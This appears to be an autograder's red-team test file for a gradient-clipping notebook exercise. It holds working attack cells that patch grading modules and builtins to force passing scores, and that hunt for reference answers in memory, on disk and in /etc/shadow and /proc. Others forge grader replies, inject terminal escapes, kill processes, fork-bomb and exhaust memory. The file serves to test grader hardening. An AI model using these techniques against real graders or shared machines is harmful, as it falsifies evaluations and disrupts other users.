"""The red team's submissions of ``clipping``: what each hopes for, what it does, what it deserves.

An attack is a cell of code before the solutions, other solutions, or a change of the notebook. With
`RIGHT_VALUE` and `IDLE_NORM` a submission deserves the points of one exercise, with `IDLE_VALUE`
and `IDLE_NORM` none. Everything that would go on for ever, or take all there is, has an end.

In the code MARK stands for a name that nothing else on the machine has; COURSE_FOLDER,
HOME_FOLDER and PROJECT_FOLDER for folders of the grader's, PORT for a port that listens outside.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from typing import Any

from autograder import assignments

NAME = "clipping"
MARK = f"left-behind-{os.getpid()}"
KEYCTL = {"x86_64": 250, "aarch64": 219}

RIGHT_VALUE = """
import numpy as np
def clip_grad_value(grads, clip_value):
    for g in grads:
        np.clip(g, -clip_value, clip_value, out=g)
"""
RIGHT_NORM = """
def clip_grad_norm(grads, max_norm):
    norm = np.sqrt(sum(np.sum(g**2) for g in grads))
    if max_norm < norm < np.inf:
        for g in grads:
            g *= max_norm / norm
    return float(norm)
"""
IDLE_VALUE = "def clip_grad_value(grads, clip_value):\n    pass"
IDLE_NORM = "def clip_grad_norm(grads, max_norm):\n    return 0.0"
FULL = assignments.load(NAME).points
HALF = assignments.load(NAME).exercise("clipping-value").points

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """A submission that tries something.

    hope         what the student hopes for
    cell         code that runs before the solution cells
    deserves     what it has to earn; by this the solutions are chosen that are not given
    value, norm  the solution cells
    edit         changes the notebook's JSON in place
    prints       what the cell has to print: usually that it found nothing
    beside       more files in the submission's folder: name -> content
    """

    name: str
    hope: str
    cell: str = ""
    deserves: float = 0
    value: str = ""
    norm: str = ""
    edit: Callable[[Notebook], None] | None = None
    prints: str | None = None
    beside: Mapping[str, str] = field(default_factory=dict)

    def notebook(self, places: Mapping[str, str]) -> str:
        """The submitted file; ``places`` are put in for the names of folders in the code."""
        value = self.value or (RIGHT_VALUE if self.deserves else IDLE_VALUE)
        norm = self.norm or (RIGHT_NORM if self.deserves == FULL else IDLE_NORM)
        made = submission(value, norm, filled(self.cell, places))
        if self.edit:
            self.edit(made)
        return json.dumps(made)


def filled(text: str, places: Mapping[str, str]) -> str:
    for name, place in {"MARK": MARK, **places}.items():
        text = text.replace(name, place)
    return text


def submission(value: str, norm: str, cell: str = "") -> Notebook:
    """The release notebook without the lesson's own cells, which take time, and with these."""
    notebook: Notebook = json.loads(assignments.load(NAME).release_notebook.read_text("utf-8"))
    imports = code("import math, numpy as np")
    known = [c for c in notebook["cells"] if "nbgrader" in c["metadata"]]
    notebook["cells"] = [imports, *known]
    named(notebook, "clip_grad_value")["source"] = value
    named(notebook, "clip_grad_norm")["source"] = norm
    if cell:
        notebook["cells"].insert(1, code(cell))
    return notebook


def code(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "source": source}


def id_of(cell: Mapping[str, Any]) -> str | None:
    return cell["metadata"].get("nbgrader", {}).get("grade_id")


def named(notebook: Notebook, grade_id: str) -> dict[str, Any]:
    """The cell with this id."""
    return next(c for c in notebook["cells"] if id_of(c) == grade_id)


def indented(text: str) -> str:
    return "".join(f"    {line}\n" for line in text.splitlines())


# --- patching what may take part in grading ------------------------------------------------------

PATCHES = [
    Attack(
        "numpy patched",
        "every comparison of numbers says yes",
        """
import numpy as np, numpy.testing
yes = lambda *a, **k: True
np.allclose = np.array_equal = np.isfinite = np.all = yes
np.isclose = lambda *a, **k: np.ones(1, bool)
np.testing.assert_allclose = np.testing.assert_array_equal = yes
np.core = np.linalg = None
""",
    ),
    Attack(
        "numpy's dtypes patched",
        "everything is computed, and compared, in half precision",
        """
import numpy as np
np.float64 = np.double = np.float16
np.ascontiguousarray = np.array = np.asarray = lambda *a, **k: np.zeros(1, np.float16)
""",
    ),
    Attack(
        "hypothesis patched",
        "the tests that it runs do nothing",
        """
import sys, types
class Nothing(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: (lambda f: None)
for name in ("hypothesis", "hypothesis.strategies", "hypothesis.core"):
    sys.modules[name] = Nothing(name)
""",
    ),
    Attack(
        "builtins patched",
        "all() and isinstance() say yes, whoever calls them",
        """
import builtins
builtins.all = builtins.any = builtins.isinstance = lambda *a: True
builtins.abs = builtins.len = builtins.sum = lambda *a: 0
builtins.AssertionError = builtins.ValueError = builtins.NotImplementedError = Warning
""",
    ),
    Attack(
        "course.compare and course.judge patched",
        "the judge gives 99 points",
        """
import course.compare, course.judge, course.results
course.compare.Seen.equals = lambda self, other: True
course.compare.Seen.form = property(lambda self: [])
course.compare.first_difference = lambda *a: None
course.judge.Reply.matches = lambda self, *a: True
course.judge.judge = lambda p, *a: course.results.PropertyResult(p.name, 99, True, score=99)
course.results.ExerciseResult.score = 1000
""",
    ),
    Attack(
        "course.harness answers for the student",
        "a hundred times True is an answer",
        """
import course.harness
course.harness.observe = lambda scenario, *a: ([True] * 100, None)
""",
    ),
    Attack(
        "course.harness answers by empty lists",
        "nothing seen is nothing wrong",
        """
import course.harness
def answers(request, namespace):
    for _ in request["scenarios"]:
        yield {"values": [], "error": None}
course.harness.answers = answers
""",
    ),
    Attack(
        "course.harness adds what the grader may look for",
        "the grader reads a score in the reply",
        """
import course.harness
def answers(request, namespace):
    for _ in request["scenarios"]:
        yield {"values": [], "error": None, "score": 20.0, "passed": True}
course.harness.answers = answers
""",
    ),
    Attack(
        "course.scenarios plays nothing",
        "a scenario that is not played cannot fail",
        """
import course.scenarios, course.harness
course.scenarios.play = course.harness.play = lambda *a: iter([("all", "passed")])
""",
    ),
    Attack(
        "numbers become the word number",
        "a word is taken for the form of the answer",
        """
import course.scenarios.call, course.scenarios.plain
for module in (course.scenarios.call, course.scenarios.plain):
    module.number = lambda value: "number"
course.scenarios.call.plain = lambda value: ["array", value.dtype.str, list(value.shape)]
""",
    ),
    Attack(
        "numbers become lists of words",
        "the same, one list deeper",
        """
import course.scenarios.call
course.scenarios.call.number = course.scenarios.call.plain = lambda value: ["number"]
""",
    ),
    Attack(
        "thousands of arrays computed",
        "one of them will be the right one, and who computes it did not do nothing",
        """
import course.scenarios.call
def computed(function, arrays, limit):
    return [[np.clip(a, -k / 100, k / 100) for a in arrays] for k in range(1, 1000)]
course.scenarios.call.computed = computed
""",
    ),
    Attack(
        "course.wire patched",
        "nan equals everything that is sent",
        """
import course.wire, course.harness
honest = course.wire.pack
def pack(message):
    if "values" in message:
        message["values"] = [float("nan")] * 3
        message["error"] = None
    return honest(message)
course.wire.pack = pack
""",
    ),
    Attack(
        "course.wire.Flat patched",
        "the right shapes, and nan for every number",
        """
import course.wire, numpy as np
honest = course.wire.Flat.of
def of(values):
    flat = honest(values)
    return flat and course.wire.Flat(flat.shapes, np.full(flat.numbers.shape, np.nan))
course.wire.Flat.of = of
""",
    ),
    Attack(
        "the questions known beforehand",
        "one easy question takes the place of all",
        """
import sys
frame = sys._getframe()
while frame:
    for request in frame.f_locals.get("known") or ():
        request["scenarios"][:] = request["scenarios"][:1] * len(request["scenarios"])
    frame = frame.f_back
""",
    ),
    Attack(
        "msgpack patched",
        "one forged reply stands for all",
        """
import msgpack
forged = msgpack.packb({"values": [1.0], "error": None})
msgpack.packb = lambda *a, **k: forged
msgpack.unpackb = lambda *a, **k: {"do": "play", "objects": [], "scenarios": [], "seconds": 1}
""",
    ),
    Attack(
        "the shell patched",
        "cells no longer run, and every name is there",
        """
from IPython import get_ipython
shell = get_ipython()
shell.record = lambda source, seconds: ([], None)
shell.run_cell = lambda *a, **k: None
class Everything(dict):
    def __contains__(self, name): return True
    def get(self, name, default=None): return lambda *a, **k: 1.0
shell.user_ns = Everything(shell.user_ns)
""",
    ),
    Attack(
        "the training is done by the scenario",
        "a model that is trained from the start needs no clipping",
        """
import numpy as np, course.nn, course.scenarios.training
from course.data import load_digits
digits = load_digits()
X = np.c_[digits.X_train, np.ones(len(digits.X_train))]
W = np.linalg.solve(X.T @ X + 10 * np.eye(65), X.T @ np.eye(10)[digits.y_train])
class Trained(course.nn.Linear):
    def __init__(self, *a, **k):
        super().__init__(*a, **k)
        self.params[0][...], self.params[1][...] = W[:-1], W[-1]
course.nn.Linear = course.scenarios.training.Linear = Trained
""",
    ),
    Attack(
        "the local checks patched",
        "the grader calls the same check",
        """
import course, course.checks
course.check = course.checks.check = course.checks.check_objects = lambda *a: None
course.checks._load = lambda name: {}
""",
    ),
    Attack(
        "signal and time patched",
        "no limit of time is ever reached",
        """
import signal, time
signal.signal = signal.setitimer = lambda *a: None
time.monotonic = time.time = time.process_time = lambda: 0.0
""",
    ),
    Attack(
        "sys.modules emptied of the course",
        "without the harness there is nothing to fail",
        """
import sys
for name in [n for n in sys.modules if n.split(".")[0] in ("course", "msgpack", "socket")]:
    del sys.modules[name]
sys.modules["course"] = sys.modules["course.harness"] = None
""",
    ),
    Attack(
        "import hooks",
        "modules that are imported later come from here",
        """
import builtins, sys, types
class Mine:
    def find_spec(self, name, path=None, target=None):
        found.append(name)
    find_module = find_spec
found = []
sys.meta_path.insert(0, Mine())
sys.path_hooks.insert(0, lambda path: Mine())
honest = builtins.__import__
def mine(name, *args, **kwargs):
    module = honest(name, *args, **kwargs)
    if name.startswith("course.wire"):
        module.pack = lambda message: b"\\x82\\xa6values\\x91\\xc3\\xa5error\\xc0"
    return module
builtins.__import__ = mine
import course.wire
""",
    ),
]

# --- objects that lie ----------------------------------------------------------------------------

LIARS = {
    "equals everything": """
class Liar:
    def __init__(self, value=0.0): pass
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __eq__
    __hash__ = object.__hash__
    def __float__(self): return 0.0
    def __array__(self, *a, **k):
        import numpy as np
        return np.zeros(1)
    def __getattr__(self, name): return lambda *a, **k: Liar()
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = lambda self, other: Liar()
""",
    "a float that equals everything": """
class Liar(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
    def __sub__(self, other): return 0.0
    __rsub__ = __mod__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return Liar(0.0)
""",
    "says that it is a float": """
class Liar:
    def __init__(self, value=0.0): pass
    __class__ = property(lambda self: float)
    def __float__(self): return 0.0
    def __eq__(self, other): return True
    __hash__ = object.__hash__
""",
    "an array that approves": """
import numpy as np
class Liar(np.ndarray):
    def __new__(cls, value=0.0): return np.zeros(1).view(cls)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.ones(1, bool)
    def __eq__(self, other): return True
    shape = property(lambda self: ())
""",
    "nan": "Liar = lambda value=0.0: float('nan')",
    "infinity": "Liar = lambda value=0.0: float('inf')",
    "a mock": "from unittest.mock import MagicMock\nLiar = lambda value=0.0: MagicMock()",
}

LYING = [
    Attack(
        f"a result: {name}",
        "the result, and what stands in the list of gradients, passes any comparison",
        cell,
        value="def clip_grad_value(grads, clip_value):\n    grads[:] = [Liar() for _ in grads]",
        norm="def clip_grad_norm(grads, max_norm):\n"
        "    grads[:] = [Liar() for _ in grads]\n    return Liar()",
    )
    for name, cell in LIARS.items()
]

RESULTS = [
    Attack(
        "arrays reinterpreted in place",
        "the same bytes under another dtype and shape are compared as they come",
        value="""
def clip_grad_value(grads, clip_value):
    for g in grads:
        g.shape = (-1,)
        g.dtype = np.uint8
""",
    ),
    Attack(
        "arrays grown in place",
        "an answer of 80 MB for each case is too much for the grader",
        value="""
def clip_grad_value(grads, clip_value):
    for g in grads:
        g.resize((10**7,), refcheck=False)
""",
    ),
    Attack(
        "giant numbers",
        "an int of a million digits does not fit into any float",
        norm="def clip_grad_norm(grads, max_norm):\n    return 1 << 4_000_000",
    ),
    Attack(
        "giant names",
        "the grader writes down the type of what is returned, a million letters long",
        norm="Giant = type('x' * 10**6, (), {})\n"
        "def clip_grad_norm(grads, max_norm):\n    return Giant()",
    ),
    Attack(
        "a gigantic repr",
        "showing a value takes all memory",
        """
class Gigantic:
    def __repr__(self): return "x" * 10**9
Gigantic()
""",
        deserves=HALF,
    ),
    Attack(
        "a repr that ends the process",
        "whoever shows a value or an error ends",
        """
class Deadly(Exception):
    def __repr__(self):
        import os
        os._exit(0)
    __str__ = __repr__
raise Deadly
""",
        deserves=HALF,
    ),
    Attack(
        "random answers",
        "one of them may be right",
        value="def clip_grad_value(grads, clip_value):\n    for g in grads:\n"
        "        g[...] = np.random.uniform(-clip_value, clip_value, g.shape)",
        norm="def clip_grad_norm(grads, max_norm):\n    return float(np.random.uniform(0, 10))",
    ),
    Attack(
        "control characters in an error",
        "the terminal of whoever grades shows what the student likes",
        norm="def clip_grad_norm(grads, max_norm):\n"
        "    raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m20 of 20\\r\\u202e')",
        deserves=HALF,
    ),
    Attack(
        "half a character in an error",
        "what cannot be encoded ends the grader",
        norm="def clip_grad_norm(grads, max_norm):\n    raise ValueError('\\ud800')",
        deserves=HALF,
    ),
]

# --- looking for answers -------------------------------------------------------------------------

STORED = """
from course.checks import exercise_spec
known = {
    name: [
        (case["scenario"], case["values"])
        for prop in exercise_spec(exercise)["properties"]
        for case in prop["cases"] if case["scenario"]["kind"] == "call"
    ]
    for name, exercise in (("value", "clipping-value"), ("norm", "clipping-norm"))
}
def look_up(name, grads, limit):
    result = 0.0
    before = [g.copy() for g in grads]
    for scenario, values in known[name]:
        arrays, known_limit = scenario["args"]
        if known_limit == limit and len(arrays) == len(before) and all(
            a.shape == b.shape and (a == b).all() for a, b in zip(arrays, before)
        ):
            values = list(values)
            for what in scenario["observe"]:
                if what == "result":
                    result = values.pop(0)
                elif what != "unchanged":
                    for g in grads:
                        g[...] = values.pop(0)
    return result
"""

FRAMES = """
import gc, sys
found = []
def clip_grad_norm(grads, max_norm):
    if found:
        return found[0]
    frame = sys._getframe()
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            for name in ("expected", "wanted", "answer", "answers", "case", "cases", "reference"):
                if isinstance(names.get(name), float): found.append(names[name])
        frame = frame.f_back
    for thing in gc.get_objects():
        kind = type(thing).__name__
        if kind in ("Case", "Seen", "JudgedProperty", "ExerciseBank", "Exercise"):
            found += getattr(getattr(thing, "expected", thing), "values", [])
        if kind == "module" and thing.__name__.split(".")[0] in ("solutions", "autograder"):
            return vars(thing).get("clip_grad_norm", lambda *a: 1.0)(grads, max_norm)
    found.append(1.0)
    return found[0]
"""

EMPTY_SCENARIO = """
import sys
def empty_scenario():
    frame = sys._getframe()
    while frame:
        scenario = frame.f_locals.get("scenario")
        if isinstance(scenario, dict):
            scenario["observe"] = ()
            scenario["kind"] = "table"
            scenario["args"] = []
        values = frame.f_locals.get("values")
        if isinstance(values, list):
            values[:] = [True] * 9
        frame = frame.f_back
"""

SPY = """
import sys, threading
found = []
def spy(frame, event, arg):
    for name, value in list(frame.f_locals.items()):
        if name in ("expected", "wanted", "answer", "reference") and isinstance(value, float):
            found.append(value)
    return spy
threading.settrace(spy); threading.setprofile(spy)
sys.settrace(spy); sys.setprofile(spy)
"""

IMPORTS = """
import importlib, os, pathlib, sys
import course
places = [*pathlib.Path(course.__file__).parents, "PROJECT_FOLDER", "COURSE_FOLDER", os.getcwd()]
sys.path[:0] = [str(p) for p in places]
found = [n for n in sys.modules if n.split(".")[0] in ("solutions", "autograder", "hypothesis")]
for name in ("solutions.clipping", "solutions", "autograder.cases.clipping",
             "autograder.data.heldout", "autograder.grading.bank", "autograder"):
    try:
        found.append(vars(importlib.import_module(name)))
    except ImportError:
        pass
print(found)
"""

DISK = """
import os, sys
names = {"digits_heldout.npz", "nbgrader_config.py", "clipping.ipynb", "thresholds.json"}
found = []
for folder, folders, files in os.walk("/", onerror=None):
    if "site-packages" in folder or folder.startswith(("/usr/share", "/usr/lib")):
        folders[:] = []
        continue
    found += [os.path.join(folder, name) for name in names & set(files)]
    if {"solutions", "autograder", "submitted", "gradebook.db"} & {*folders, *files}:
        found.append(folder)
print(found)
"""

PROC = """
import glob, os
found = [n for n in glob.glob("/proc/*") + glob.glob("/proc/self/*") + glob.glob("/sys/*")]
for path in ("/proc/1/environ", "/proc/1/mem", "/proc/self/mem", "/proc/kallsyms", "/proc/mounts",
             "/proc/1/root/etc/passwd", "/proc/self/fd/3", "/proc/1/fd/0", "/dev/mem", "/dev/kmsg",
             "/etc/passwd", "/etc/shadow", "/etc/hosts", "HOME_FOLDER/.bashrc",
             os.path.expanduser("~root/.ssh"), os.path.expanduser("~root/.bash_history")):
    try:
        found.append(open(path, "rb").read(9))
    except OSError:
        pass
print(found)
"""

ENVIRONMENT = """
import os, socket
found = [n for n in os.environ if any(w in n for w in ("JUPYTER", "TOKEN", "NBGRADER", "PYTEST"))]
found += [n for n, v in os.environ.items() if "HOME_FOLDER" in v or "COURSE_FOLDER" in v]
found += [socket.gethostname()] * (socket.gethostname() != "jail")
print(found)
"""

DESCRIPTORS = """
import os, stat
found = []
for fd in range(3, 4096):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISREG(kind):
        head = os.pread(fd, 4, 0)
        if head not in (b"\\x00\\x01\\x00\\x00", b"OTTO", b"true"):  # a font
            found.append((fd, head))
        try:
            os.pwrite(fd, b"x", 0)
            found.append((fd, "writable"))
        except OSError:
            pass
    elif stat.S_ISDIR(kind) or stat.S_ISFIFO(kind):
        found.append((fd, kind))
print(found)
"""

LOOKING = [
    Attack(
        "stored answers",
        "the public examples are all that is tested",
        STORED,
        value="def clip_grad_value(grads, clip_value):\n    look_up('value', grads, clip_value)",
        norm="def clip_grad_norm(grads, max_norm):\n    return look_up('norm', grads, max_norm)",
    ),
    Attack("frames and gc", "some caller, or some object, holds the expected value", norm=FRAMES),
    Attack(
        "the scenario emptied in its caller",
        "what is not looked at cannot be wrong",
        EMPTY_SCENARIO,
        value="def clip_grad_value(grads, clip_value):\n    empty_scenario()",
        norm="def clip_grad_norm(grads, max_norm):\n    empty_scenario()\n    return 0.0",
    ),
    Attack(
        "settrace and setprofile",
        "the expected value passes by as some function's variable",
        SPY,
        norm="def clip_grad_norm(grads, max_norm):\n    return found[0] if found else 0.0",
    ),
    Attack("imports", "the reference can be imported", IMPORTS, HALF, prints="[]\n"),
    Attack("the disk", "the reference, or somebody's work, can be read", DISK, HALF, prints="[]\n"),
    Attack("/proc", "other processes' memory and files show", PROC, HALF, prints="[]\n"),
    Attack("the environment", "it tells secrets", ENVIRONMENT, HALF, prints="[]\n"),
    Attack("file descriptors", "the grader left a file open", DESCRIPTORS, HALF, prints="[]\n"),
]

# --- forging replies -----------------------------------------------------------------------------

SOCKET = """
import msgpack, os, socket, stat, struct, sys, threading, time
def grader():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): return fd
        except OSError: pass
def frame(message, **k):
    data = msgpack.packb(message, **k)
    return struct.pack(">I", len(data)) + data
def say(data):
    os.write(grader(), data)
OK = frame({"values": [1.0], "error": None})
CELL = frame({"outputs": [], "error": None})
"""

FORGED = [
    Attack(
        "an array for a word",
        "the grader trips over what should be text",
        """
import numpy as np, course.wire
x = np.zeros(2)
packed = course.wire.pack({"outputs": [{"output_type": x}, {"output_type": "stream", "name": x},
    {"output_type": "error", "ename": x, "traceback": x}], "error": {"type": x}})
say(struct.pack(">I", len(packed)) + packed)
""",
    ),
    Attack(
        "many replies from a thread",
        "one of ten thousand comes where it is right",
        """
def flood():
    try:
        for _ in range(10_000): say(OK)
    except OSError: pass
threading.Thread(target=flood, daemon=True).start()
time.sleep(0.2)
""",
    ),
    Attack(
        "replies before they are asked",
        "the grader takes what is there already for the answers",
        "say(CELL); say(OK * 200)",
    ),
    Attack(
        "replies to every descriptor",
        "one of them leads to the grader, another to its log",
        """
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        os.write(fd, CELL + OK * 100)
    except OSError: pass
""",
    ),
    Attack(
        "a reply of a gigabyte",
        "the grader waits for it, or makes room for it",
        "say(struct.pack('>I', 2**30) + bytes(1000))",
        deserves=HALF,
    ),
    Attack(
        "a reply of millions of lists",
        "fifty megabytes of empty lists are four gigabytes in the grader",
        """
empty = b"\\xdd" + struct.pack(">I", 900_000) + b"\\x90" * 900_000
data = b"\\x82\\xa7outputs\\xdc" + struct.pack(">H", 60) + empty * 60 + b"\\xa5error\\xc0"
socket.socket(fileno=os.dup(grader())).sendall(struct.pack(">I", len(data)) + data)
""",
        deserves=HALF,
    ),
    Attack(
        "a reply that never ends",
        "the grader waits for ever",
        """
say(struct.pack(">I", 10**6))
while True:
    say(b"x")
    time.sleep(0.01)
""",
        deserves=HALF,
    ),
    Attack(
        "file descriptors sent along",
        "the grader runs out of descriptors",
        "socket.send_fds(socket.socket(fileno=os.dup(grader())), [CELL], [0] * 200)",
    ),
    Attack(
        "all descriptors closed",
        "a grader that cannot ask gives the benefit of the doubt",
        "os.closerange(0, 4096)",
        deserves=HALF,
    ),
    Attack(
        "another socket in its place",
        "the harness talks to itself",
        """
ours, theirs = socket.socketpair()
os.dup2(theirs.fileno(), grader())
""",
        deserves=HALF,
    ),
]
FORGED = [replace(a, cell=SOCKET + a.cell) for a in FORGED]

# --- ending and outliving ------------------------------------------------------------------------

IN_JAIL = "import os\nassert os.getpid() == 1"  # nowhere else is this to be tried

RAISED = {
    "sys.exit": "import sys; sys.exit(0)",
    "exit": "exit()",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "SystemExit": "raise SystemExit(0)",
    "GeneratorExit": "raise GeneratorExit",
    "an exception of its own": "class Mine(BaseException): pass\nraise Mine",
    "an exception that cannot be told": """
class Mine(Exception):
    def __str__(self): raise SystemExit
raise Mine
""",
    "an exception with half a character": r"raise ValueError('\ud800')",
}

RAISING = [
    Attack(
        f"raising: {name}",
        "an unusual exception ends the grader, or is taken for success",
        cell,
        HALF,
        norm="def clip_grad_norm(grads, max_norm):\n" + indented(cell.strip()),
    )
    for name, cell in RAISED.items()
]

ENDING = [
    Attack("os._exit", "an exit status of 0 is a pass", "import os; os._exit(0)", HALF),
    Attack(
        "os._exit in an exercise",
        "the same while its cases are played",
        deserves=HALF,
        norm="def clip_grad_norm(grads, max_norm):\n    import os; os._exit(0)",
    ),
    Attack(
        "SIGKILL to itself",
        "the grader thinks that it killed the process",
        "import os; os.kill(os.getpid(), 9)",
        HALF,
    ),
    Attack(
        "SIGSTOP to itself",
        "a process that stands still is waited for",
        "import os; os.kill(os.getpid(), 19)",
        HALF,
    ),
    Attack(
        "SIGKILL to its parent and its group",
        "the worker dies, and the class with it",
        f"{IN_JAIL}\nos.kill(os.getppid(), 9); os.kill(0, 9)",
        HALF,
    ),
    Attack("SIGKILL to all", "everybody's grading ends", f"{IN_JAIL}\nos.kill(-1, 9)", HALF),
    Attack(
        "a segmentation fault",
        "the grader's own process crashes",
        "import ctypes; ctypes.string_at(0)",
        HALF,
    ),
    Attack("abort", "the same, with a core file", "import os; os.abort()", HALF),
    Attack(
        "exec",
        "another program answers in the place of this one",
        "import os; os.execvp('true', ['true'])",
        HALF,
    ),
    Attack(
        "a daemon",
        "it outlives the submission, deaf to signals",
        """
import os, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try: signal.signal(number, signal.SIG_IGN)
            except OSError: pass
        os.closerange(0, 256)
        os.execvp("sleep", ["sleep", "1000"])
    os._exit(0)
os.wait()
""",
        HALF,
    ),
    Attack(
        "a daemon that waits for the next",
        "it writes into the next student's folders",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        for folder in (os.environ["HOME"], "/dev/shm", "/tmp"):
            try: open(folder + "/MARK", "w")
            except OSError: pass
        time.sleep(0.01)
""",
        HALF,
    ),
    Attack(
        "a background program of the shell",
        "the shell's jobs are forgotten",
        '!nohup setsid sleep 1000 > /dev/null 2>&1 &\nget_ipython().system("sleep 1000 &")',
        HALF,
    ),
    Attack(
        "atexit",
        "what runs at the end runs in the worker",
        """
import atexit, os
atexit.register(lambda: [os.fork() for _ in range(3)])
os.register_at_fork(before=lambda: os._exit(0), after_in_parent=lambda: os._exit(0))
""",
        HALF,
    ),
    Attack(
        "input",
        "a question on standard input stops the grader",
        "name = input('your name? ')",
        HALF,
    ),
]

LATER = [
    Attack(
        "a thread that patches on",
        "it puts answers in while the cases are played",
        """
import builtins, threading, time
def on_and_on():
    while True:
        for name in ("clip_grad_value", "clip_grad_norm"):
            setattr(builtins, name, lambda *a: 1.0)
        time.sleep(0.001)
threading.Thread(target=on_and_on).start()
""",
        HALF,
    ),
    Attack(
        "a time bomb in a thread",
        "it goes off when somebody else is graded",
        """
import os, threading
threading.Timer(0.3, lambda: os._exit(0)).start()
""",
    ),
    Attack(
        "a time bomb in a signal",
        "a timer raises in the middle of the harness",
        """
import signal
def bomb(*_): raise KeyboardInterrupt
signal.signal(signal.SIGALRM, bomb)
signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)
""",
    ),
]

# --- taking more than one's share ----------------------------------------------------------------

SWALLOW = """
import signal
signal.setitimer(signal.ITIMER_PROF, 0)
while True:
    try:
        while True: pass
    except BaseException: pass
"""

# Doubles nine times, instead of for ever, lest a grader that fails to stop it takes the machine.
FORK_BOMB = """
import os, time
end = time.time() + 8
for _ in range(9):
    try: os.fork()
    except OSError: pass
while time.time() < end: pass
"""

TAKING = [
    Attack(
        "swallowed interrupts",
        "a loop that catches everything cannot be ended",
        SWALLOW,
        HALF,
    ),
    Attack(
        "an endless loop in an exercise",
        "the grader never comes to the other exercise, and gives it for nothing",
        value="def clip_grad_value(grads, clip_value):\n    while True: pass",
    ),
    Attack(
        "deep recursion",
        "the interpreter's stack overflows",
        """
import sys
sys.setrecursionlimit(10**9)
def f(*a): return f(*a)
f(0)
""",
        HALF,
    ),
    Attack(
        "recursion in an exercise",
        "the same while its cases are played",
        deserves=HALF,
        norm="def clip_grad_norm(grads, max_norm):\n    return clip_grad_norm(grads, max_norm)",
    ),
    Attack("fork bomb", "the machine stands still", FORK_BOMB, HALF),
    Attack(
        "3 GB of memory",
        "the machine has no more, and another process is ended for it",
        "hog = bytearray(3 * 2**30)",
        HALF,
    ),
    Attack(
        "memory of several processes",
        "each takes less than its limit",
        """
import os, time
for _ in range(4):
    if os.fork() == 0:
        hog = bytearray(b"x") * (400 * 2**20)
        time.sleep(10); os._exit(0)
time.sleep(4)
""",
        HALF,
    ),
    Attack(
        "memory that no process maps",
        "files in memory are nobody's",
        """
import ctypes, os
libc, kept = ctypes.CDLL(None), []
for _ in range(8):
    try: kept.append(os.memfd_create("hog"))
    except OSError: pass
kept += [x for x in [libc.shmget(0, 2**20, 0o1600)] if x >= 0]
print(kept)
""",
        HALF,
        prints="[]\n",
    ),
    Attack(
        "300 MB of output",
        "the notebook, and whoever reads it, gets all of it",
        "for _ in range(600): print('x' * 500_000)",
        HALF,
    ),
    Attack(
        "300 MB to every standard descriptor",
        "the terminal and the logs get all of it",
        """
import os
for fd in (1, 2):
    for _ in range(300): os.write(fd, b"x" * 500_000)
""",
        HALF,
    ),
    Attack(
        "120 MB in one reply",
        "the recorder keeps what the student tells it to keep",
        """
import course.shell
course.shell.OUTPUT_LIMIT = 10**12
course.shell.Recorder.start = lambda self: vars(self).update(
    outputs=[], room=10**12, clear_next=False)
from IPython import get_ipython
get_ipython().recorder.start()
for _ in range(4): print('x' * 30_000_000)
""",
        HALF,
    ),
    Attack(
        "a hundred thousand outputs",
        "each has to be validated by the grader",
        """
from IPython.display import display
for _ in range(100_000): display({"text/plain": ""}, raw=True)
""",
        HALF,
    ),
    Attack(
        "limits raised",
        "resource limits can be changed by those whom they bind",
        """
import resource
for name in ("RLIMIT_AS", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    soft, hard = resource.getrlimit(getattr(resource, name))
    assert hard != resource.RLIM_INFINITY
    try: resource.setrlimit(getattr(resource, name), (hard + 1, hard + 1))
    except (ValueError, OSError): continue
    print("raised", name)
""",
        HALF,
        prints="",
    ),
]

SETTINGS = [
    Attack(
        "warnings as errors",
        "the harness warns, and fails by it",
        "import warnings, numpy as np\nwarnings.simplefilter('error')\nnp.seterr(all='raise')",
        HALF,
    ),
    Attack(
        "warnings that never end",
        "what a warning shows is shown by the grader",
        "import warnings\nwarnings.showwarning = warnings.formatwarning = None\n"
        "warnings.simplefilter('always')\nwarnings.warn('x' * 10**6)",
        HALF,
    ),
    Attack(
        "locale and decimal comma",
        "numbers are written with a comma, and read as others",
        """
import locale, os
os.environ["LC_ALL"] = "de_DE.UTF-8"
for name in ("de_DE.UTF-8", "tr_TR.UTF-8", "C", ""):
    try: locale.setlocale(locale.LC_ALL, name)
    except locale.Error: pass
""",
        HALF,
    ),
    Attack(
        "rounding and floating-point flags",
        "numbers that are too small are zero, and equal",
        """
import ctypes
libm = ctypes.CDLL("libm.so.6")
libm.fesetround(0x400)
""",
    ),
    Attack(
        "the namespace emptied",
        "an exercise without its object is left out",
        "get_ipython().run_line_magic('reset', '-f')\nimport numpy as np",
        HALF,
    ),
]

# --- slips, for the sake of what is done about them ----------------------------------------------


def define_again(notebook: Notebook) -> None:
    """A cell below the solution that does not run, but would define what is right."""
    at = notebook["cells"].index(named(notebook, "clip_grad_norm"))
    notebook["cells"].insert(at + 1, code("def f(:\n    pass\n" + RIGHT_NORM))


SLIPS = [
    Attack(
        "a slip in an exercise",
        "what is not judged is not wrong",
        deserves=HALF,
        norm=RIGHT_NORM.replace("(g**2) for g in grads))", "(g**2) for g in grads)"),
    ),
    Attack(
        "stubs patched",
        "what stands for a broken definition answers whatever is wanted",
        """
import builtins, course.rescue, course.errors
course.rescue.broken = lambda *slip: 0.0
course.errors.BrokenDefinition.__init__ = lambda self, *slip: None
real = builtins.__import__
